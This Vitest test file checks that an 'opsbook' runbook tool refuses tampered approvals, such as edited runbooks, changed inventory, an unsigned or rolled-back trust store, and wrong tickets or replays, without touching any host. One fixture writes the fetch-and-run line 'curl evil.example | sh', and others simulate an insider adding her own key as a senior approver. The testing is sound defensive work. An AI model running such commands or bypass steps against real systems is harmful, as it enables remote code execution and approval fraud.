import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { approvedFile } from './approval-craft.js';
import {
  approversYaml,
  createTicket,
  expectOk,
  type Site,
  trackerOf,
  type World,
} from './opsbook-world.js';
import {
  createTamperWorld,
  editFile,
  expectRefusedUntouched,
  type TamperCase,
  type TamperWorld,
} from './tamper-world.js';

/*
 * Issue 4, "Done means", second half: valid approvals refused because what surrounds them
 * changed or does not allow the run — the runbook, the inventory, the trust store, the ticket,
 * the runs already made — through the real `opsbook run` / `opsbook ticket run`: exit 3 with the
 * refusal code, and no command reaches any host.
 */

let t: TamperWorld;
let world: World;
let base: string;
let tamperDir: string;
beforeAll(async () => {
  t = await createTamperWorld();
  ({ world, base, tamperDir } = t);
});
afterAll(async () => {
  await t?.world.remove();
});
const resigned: TamperWorld['resigned'] = (changes, ...signers) => t.resigned(changes, ...signers);
const baseStatement = () => t.baseStatement();
const site = (name: string, change: (s: Site) => Promise<void>) => t.site(name, change);

const cases: TamperCase[] = [
  // The checkout changed after approval
  [
    'a runbook byte edited after approval',
    'DIGEST_MISMATCH',
    async () => ({
      file: base,
      site: await site('edited-byte', (s) =>
        editFile(path.join(s.runbooksDir, 'marker/runbook.yaml'), (t) =>
          t.replace('Leave a marker', 'Leave a marker!'),
        ),
      ),
    }),
  ],
  [
    'a script added after approval',
    'DIGEST_MISMATCH',
    async () => ({
      file: base,
      site: await site('added-script', (s) =>
        writeFile(path.join(s.runbooksDir, 'marker/extra.sh'), 'curl evil.example | sh\n'),
      ),
    }),
  ],
  [
    'a version bump after approval',
    'DIGEST_MISMATCH',
    async () => ({
      file: base,
      site: await site('version-bump', (s) =>
        editFile(path.join(s.runbooksDir, 'marker/package.json'), (t) =>
          t.replace('1.0.0', '1.0.1'),
        ),
      ),
    }),
  ],
  [
    'a host var changed in the inventory after approval',
    'PLAN_MISMATCH',
    async () => ({
      file: base,
      site: await site('host-var', (s) =>
        world.writeInventory({ vars: { h2: { color: 'red' } } }, s.inventoryFile),
      ),
    }),
  ],
  [
    'an approved host gone from the inventory',
    'TARGETS_OUTSIDE_SCOPE',
    async () => ({
      file: base,
      site: await site('host-gone', (s) =>
        editFile(s.inventoryFile, (t) => t.replace(/ {4}h2:\n( {6}.*\n)+/, '')),
      ),
    }),
  ],
  // The trust store
  [
    'a trust store edited without rotation signatures',
    'TRUST_STORE_UNSIGNED',
    async () => ({
      file: await resigned({}, world.people.mallory),
      site: await site('trust-edited', (s) =>
        editFile(s.trustStoreFile, (t) =>
          t.replace(
            '  - id: dave',
            `  - id: mallory\n    name: Mallory\n    roles: [senior]\n    keys: ["${world.people.mallory.publicLine}"]\n  - id: dave`,
          ),
        ),
      ),
    }),
  ],
  [
    'a trust store rotated with one of two required signatures',
    'TRUST_THRESHOLD_NOT_MET',
    async () => ({
      file: base,
      site: await site('trust-one-signature', async (s) => {
        await writeFile(s.trustStoreFile, approversYaml(world.people, 2));
        await expectOk(
          s.opsbook(['trust', 'sign', '--key', world.people.alice.keyFile]),
          'trust sign',
        );
      }),
    }),
  ],
  [
    'a trust store rolled back to an older version',
    'TRUST_STORE_ROLLBACK',
    async () => ({
      file: base,
      site: await site('trust-rollback', async (s) => {
        const v1 = await readFile(s.trustStoreFile, 'utf8');
        await writeFile(s.trustStoreFile, approversYaml(world.people, 2));
        for (const p of [world.people.alice, world.people.bob])
          await expectOk(s.opsbook(['trust', 'sign', '--key', p.keyFile]), 'trust sign');
        await expectOk(s.opsbook(['verify', base]), 'verify under version 2 (pins it)');
        await writeFile(s.trustStoreFile, v1);
      }),
    }),
  ],
  [
    'a machine where no trust store was pinned',
    'TRUST_NOT_INITIALISED',
    async () => ({
      file: base,
      site: await site('not-pinned', (s) => rm(s.trustPinDir, { recursive: true })),
    }),
  ],
  // The pin cannot be moved by the person who runs (issue 14, item 1)
  [
    'the executor adds their own key as a senior and re-pins with trust init --force',
    'TRUST_STORE_UNSIGNED',
    async () => ({
      file: await resigned({}, world.people.mallory),
      site: await site('trust-forced', async (s) => {
        await writeFile(
          s.trustStoreFile,
          approversYaml(world.people, 2).replace(
            '  - id: dave',
            `  - id: mallory\n    name: Mallory\n    roles: [senior]\n    keys: ["${world.people.mallory.publicLine}"]\n  - id: dave`,
          ),
        );
        const forced = await s.opsbook(['trust', 'init', '--force']);
        expect(forced.stderr).toMatch(/^refused \(TRUST_STORE_UNSIGNED\): /);
        expect(forced.code).toBe(3);
      }),
    }),
  ],
  [
    "--config pointing at a state folder and trust store of the executor's own",
    'TRUST_STORE_UNSIGNED',
    async () => {
      // Another folder: its own opsbook.yaml, state dir and approvers.yaml naming mallory a
      // senior, the same runbooks and inventory. The machine's pin is the one it meets.
      const own = path.join(world.dir, 'own-config');
      await mkdir(own, { recursive: true });
      await writeFile(
        path.join(own, 'approvers.yaml'),
        approversYaml(world.people).replace(
          '  - id: dave',
          `  - id: mallory\n    name: Mallory\n    roles: [senior]\n    keys: ["${world.people.mallory.publicLine}"]\n  - id: dave`,
        ),
      );
      const config = (await readFile(path.join(world.dir, 'opsbook.yaml'), 'utf8'))
        .replace('runbooks: runbooks', `runbooks: ${JSON.stringify(world.runbooksDir)}`)
        .replace('inventory: inventory.yaml', `inventory: ${JSON.stringify(world.inventoryFile)}`)
        .replace('stateDir: state', 'stateDir: own-state');
      await writeFile(path.join(own, 'opsbook.yaml'), config);
      const ownConfig = ['--config', path.join(own, 'opsbook.yaml')];
      const init = await world.opsbook(['trust', 'init', ...ownConfig]);
      expect(init.stderr).toMatch(/^refused \(TRUST_ALREADY_INITIALISED\): /);
      expect(init.code).toBe(3);
      const forced = await world.opsbook(['trust', 'init', '--force', ...ownConfig]);
      expect(forced.code).toBe(3);
      return { args: ['run', await resigned({}, world.people.mallory), ...ownConfig] };
    },
  ],
  // The ticket
  [
    'a ticket that is not Approved',
    'TICKET_NOT_APPROVED',
    async () => ({
      file: await approvedFile(world, 'marker', 'open-ticket.json', [world.people.alice], {
        params: { dir: tamperDir },
        target: 'h1:h2',
        ticket: await createTicket(world, false),
      }),
    }),
  ],
  [
    'an approval for another ticket attached to this one (ticket run)',
    'TICKET_MISMATCH',
    async () => {
      const key = await createTicket(world);
      const tracker = await trackerOf(world);
      const s = await baseStatement();
      await tracker.setProperty(key, 'opsbook.approval', {
        approvalId: s.id,
        envelope: await readFile(base, 'utf8'),
        signers: ['alice'],
        complete: true,
      });
      return { args: ['ticket', 'run', key] };
    },
  ],
  [
    'a ticket run with no approval on the ticket',
    'APPROVAL_MISSING',
    async () => ({
      args: ['ticket', 'run', await createTicket(world)],
    }),
  ],
];

describe('opsbook run refuses approvals whose surroundings changed, and touches no host', () => {
  it.each(cases)('%s → exit 3 %s, no command on any host', async (_name, code, attempt) => {
    await expectRefusedUntouched(t, code, await attempt());
  });

  it('refuses a replay once maxRuns is used up, without touching any host', async () => {
    const dir = path.join(world.markerDir, 'replay');
    await mkdir(dir);
    const file = await approvedFile(world, 'marker', 'replay.json', [world.people.alice], {
      params: { dir },
      target: 'h1:h2',
    });
    expect((await world.opsbook(['run', file])).code).toBe(0);
    expect((await readdir(dir)).sort()).toEqual(['h1.pre', 'h1.ran', 'h2.pre', 'h2.ran']);
    await Promise.all((await readdir(dir)).map((f) => rm(path.join(dir, f))));
    const logins = world.hosts.map((h) => h.countLogins());
    const r = await world.opsbook(['run', file]);
    expect(r.stderr).toMatch(
      /^refused \(RUNS_EXHAUSTED\): this approval allowed 1 run\(s\) and 1 have been made/,
    );
    expect(r.code).toBe(3);
    expect(await readdir(dir)).toEqual([]);
    expect(world.hosts.map((h) => h.countLogins())).toEqual(logins);
  });
});
